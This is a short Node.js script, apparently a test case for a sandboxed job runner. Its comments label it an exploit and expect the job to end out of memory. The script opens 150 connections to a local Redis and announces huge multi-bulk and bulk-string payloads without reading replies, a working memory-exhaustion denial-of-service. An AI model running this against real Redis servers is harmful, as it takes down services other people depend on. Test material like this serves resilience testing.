// exploit: announces to its Redis more than memory holds, on many connections, and reads none of what it is told
// outcome: finished exited out-of-memory
// wall: 15000
// part: no
// job: {"services":["redis"]}
const net = require('node:net')

let open = 0
for (let index = 0; index < 150; index += 1) {
  const socket = net.connect(6379, '127.0.0.1', () => {
    open += 1
    socket.write('*1048576\r\n$536870912\r\n')
    socket.write('MONITOR\r\nSUBSCRIBE a\r\n')
  })
  socket.on('error', () => {}).pause()
}
setTimeout(() => {
  console.log('open', open)
  process.exit()
}, 2000)
